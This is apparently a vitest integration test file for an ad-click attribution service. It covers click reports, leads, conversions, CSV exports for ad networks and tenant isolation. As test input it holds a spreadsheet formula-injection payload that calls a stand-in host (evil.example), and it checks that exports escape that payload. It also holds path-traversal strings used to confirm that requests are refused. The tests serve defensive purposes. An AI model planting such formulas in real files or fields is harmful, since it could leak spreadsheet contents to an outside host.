// From a click on an ad to the file its network imports, over HTTP: who sees it, and what cannot be smuggled into it.
import { beforeAll, expect, test } from 'vitest';
import { nowOf } from '../support/people/card-customer.ts';
import { type Licensed, reportedTo } from '../support/people/reported-to.ts';
import { stackHere } from '../support/stack/stack-here.ts';

const stack = stackHere();
const { licensed, report, read, write } = reportedTo(stack);

/** Clicks with a mark have indexes of their own, which may be late. */
function marked(who: Licensed, list: object) {
  const items = async () => (await read('click-report', who, list)).body.items;
  return expect.poll(items, { interval: 300 });
}

let who: Licensed;
let other: Licensed;
beforeAll(async () => {
  [who, other] = [await licensed(), await licensed()];
});

const hostile = '=HYPERLINK("https://evil.example?"&A1)';

test('a click becomes a lead, a sale and a line of the file that its network fetches', async () => {
  const clicked = (await nowOf(stack)) - 3_600_000;
  const touch = {
    touch_time: clicked,
    landing_page: 'https://www.acme-garden.com/sale',
    utm_campaign: hostile,
  };
  const c = { ...touch, visit_count: 1, first_touch_time: clicked, first_landing_page: touch.landing_page };
  const visit = { c, click: 'gclid', ids: { gclid: 'Cj0KCQ_aB-1' } };
  await report(who, visit, 3);
  const found = await read('click-report', who);
  expect(found.body.items).toMatchObject([
    {
      at: clicked,
      name: 'gclid',
      value: 'Cj0KCQ_aB-1',
      network: 'Google Ads',
      campaign: hostile,
      page: 'www.acme-garden.com/sale',
      lead_at: null,
      conversion: null,
    },
  ]);
  const click = found.body.items[0]?.id ?? '';

  const between = [
    Math.trunc(clicked / 1000).toString(36),
    hostile.slice(0, 24),
    'email',
    '',
    '',
    'mail.example',
  ];
  const at = await report(who, {
    ...visit,
    kind: 'lead',
    path: '/contact',
    c: { ...c, visit_count: '3', _touches: between.join('*') },
  });
  await marked(who, { lead: 'yes' }).toMatchObject([{ id: click, lead_at: at }]);
  const { body } = await read('leads', who);
  expect(body.items).toMatchObject([
    {
      at,
      page: 'www.acme-garden.com/contact',
      visits_before: 2,
      clicks: [{ id: click, name: 'gclid' }],
      first: { at: clicked, page: 'www.acme-garden.com/sale' },
      between: [{ channel: 'Email', source: hostile.slice(0, 24), referrer: 'mail.example' }],
      last: { channel: 'Paid Search', source: 'google', click: 'gclid' },
    },
  ]);
  expect(JSON.stringify(body)).not.toContain('Cj0KCQ');

  for (const name of ['leads', 'click-report'] as const)
    expect((await read(name, who, { as: 'csv' })).body.csv).toContain(
      `"'=HYPERLINK(""https://evil.example?""&A1)"`,
    );

  const refused = await write('mark-converted', who, { click, value: 480, currency: 'USD', at: clicked - 1 });
  expect(refused).toMatchObject({ status: 400, body: { field: { name: 'at', reason: 'before-click' } } });
  const sale = { click, value: 480, currency: 'USD', at: Date.UTC(2026, 10, 20, 19, 30) };
  const madeAt = Math.max(sale.at, clicked);
  expect(await write('mark-converted', who, { ...sale, at: madeAt })).toMatchObject({ status: 200 });
  // A report that comes once more takes no mark away.
  await report(who, visit);
  await marked(who, { converted: 'yes' }).toMatchObject([
    { id: click, lead_at: at, conversion: { value: 480, currency: 'USD', at: madeAt } },
  ]);

  const { body: made } = await write('click-export', who, { address: 'new', conversion_name: 'Sale' });
  const path = made.paths?.['google-gclid'] ?? '';
  // Google's Data Manager sends a user name and password, whatever its customer has entered.
  const headers = { authorization: `Basic ${btoa('anyone:anything')}` };
  const file = await fetch(`${stack.api}${path}`, { headers });
  expect([file.status, file.headers.get('content-type')]).toEqual([200, 'text/csv; charset=utf-8']);
  expect(file.headers.get('cache-control')).toBe('no-store');
  const time = new Date(madeAt).toISOString().slice(0, 19).replace('T', ' ');
  const text = await file.text();
  const [lead] = (await read('leads', who, { from: at, to: at + 1 })).body.items;
  expect(text).toBe(
    [
      'Google Click ID,Conversion Name,Conversion Time,Conversion Value,Conversion Currency,Order ID,Ad User Data,Ad Personalization',
      `Cj0KCQ_aB-1,Sale,${time}+0000,480.00,USD,${lead?.id.replace('#', '-')},,`,
      '',
    ].join('\r\n'),
  );
  expect((await read('click-export', who, { file: 'google-gclid' })).body.csv).toBe(text);

  await write('click-export', who, { address: 'new' });
  const old = await fetch(`${stack.api}${path}`);
  expect([old.status, old.headers.get('content-type')]).toEqual([404, 'application/json; charset=utf-8']);
  await write('mark-converted', who, { click, undo: true });
  await marked(who, { converted: 'yes' }).toEqual([]);
});

test('a won lead converts its click, and spam takes that back, from either screen', async () => {
  const ids = { gclid: 'Won_1' };
  const c = { touch_time: (await nowOf(stack)) - 120_000, visit_count: 1 };
  await report(who, { c, click: 'gclid', ids });
  const at = await report(who, { kind: 'lead', c, click: 'gclid', ids });
  const listed = async () => (await read('leads', who, { from: at, to: at + 1 })).body.items[0];
  const lead = (await listed())?.id ?? '';
  const sale = { value: 90.5, currency: 'EUR', order: '#1001' };
  const said = await write('set-outcomes', who, { outcomes: [{ lead, state: 'won', ...sale }] });
  expect(said).toMatchObject({
    status: 200,
    body: { leads: [{ id: lead, outcome: { state: 'won', ...sale } }] },
  });
  await marked(who, { converted: 'yes' }).toMatchObject([{ value: 'Won_1', conversion: { value: 90.5 } }]);
  const { csv } = (await read('click-export', who, { file: 'google-gclid' })).body;
  expect(csv).toMatch(/^Won_1,.*,90\.50,EUR,#1001,,\r$/m);
  const { counts } = (await read('click-export', who, { counts: 'yes' })).body;
  expect(counts?.files).toMatchObject({ 'google-gclid': { holds: 1 }, microsoft: { holds: 0 } });
  // A report that comes once more takes nothing back.
  expect(await listed()).toMatchObject({ outcome: sale });
  expect((await read('leads', who, { state: 'won' })).body.items).toMatchObject([{ id: lead }]);
  const click = (await read('click-report', who, { converted: 'yes' })).body.items[0]?.id ?? '';
  const counted = async () => (await read('usage', who)).body.leads;
  const before = await counted();
  for (let times = 0; times < 2; times++)
    expect((await write('set-outcomes', who, { outcomes: [{ lead, state: 'spam' }] })).status).toBe(200);
  await marked(who, { converted: 'yes' }).toEqual([]);
  expect(await counted()).toBe(before - 1);
  expect((await write('mark-converted', who, { click, value: 5, currency: 'USD' })).status).toBe(200);
  expect((await listed())?.outcome).toMatchObject({ state: 'won', value: 5, currency: 'USD' });
  expect(await counted()).toBe(before);
  await write('mark-converted', who, { click, undo: true });
  expect((await listed())?.outcome).toBeNull();
  expect(await write('set-outcomes', other, { outcomes: [{ lead, state: 'won' }] })).toMatchObject({
    status: 404,
  });
});

test('given click reports are off, no click is stored, but its leads are', async () => {
  const plain = await licensed({});
  await report(plain, { kind: 'lead', ids: { gclid: 'G' }, click: 'gclid' });
  expect((await read('click-report', plain)).body.items).toEqual([]);
  expect((await read('leads', plain)).body.items).toMatchObject([{ clicks: [], last: { click: 'gclid' } }]);
});

test('another user’s license is answered like one that does not exist', async () => {
  await report(who, { ids: { gclid: 'Foreign' } });
  const click = (await read('click-report', who)).body.items[0]?.id ?? '';
  const [foreign, none] = [
    { key: who.key, token: other.token },
    { key: 'none', token: other.token },
  ];
  for (const name of ['leads', 'click-report', 'click-export'] as const) {
    const [theirs, ours] = [await read(name, foreign), await read(name, none)];
    expect(theirs).toMatchObject({ status: 404 });
    expect(theirs).toEqual(ours);
  }
  for (const [name, body] of [
    ['mark-converted', { click }],
    ['click-export', { address: 'new' }],
  ] as const) {
    const [theirs, ours] = [await write(name, foreign, body), await write(name, none, body)];
    expect([theirs.status, theirs.body]).toEqual([404, ours.body]);
  }
  // One's own license with somebody else's click.
  expect(await write('mark-converted', other, { click })).toMatchObject({ status: 404 });
  expect((await read('click-report', who, { converted: 'yes' })).body.items).toEqual([]);
});

test('malformed requests are refused', async () => {
  for (const query of [{ cursor: '../x' }, { from: 'soon' }, { lead: 'maybe' }, { as: 'xml' }])
    expect((await read('click-report', who, query)).status, JSON.stringify(query)).toBe(400);
  for (const body of [{ click: 'x' }, { click: `${Date.now()}#a`, value: '5' }, {}])
    expect((await write('mark-converted', who, body)).status).toBe(400);
  for (const end of [
    'secret/google-gclid.csv',
    'secret/other.csv',
    'secret/..%2f',
    `${'A'.repeat(43)}/microsoft.csv`,
  ])
    expect([400, 404]).toContain((await fetch(`${stack.api}/http/conversions/${who.key}/${end}`)).status);
});
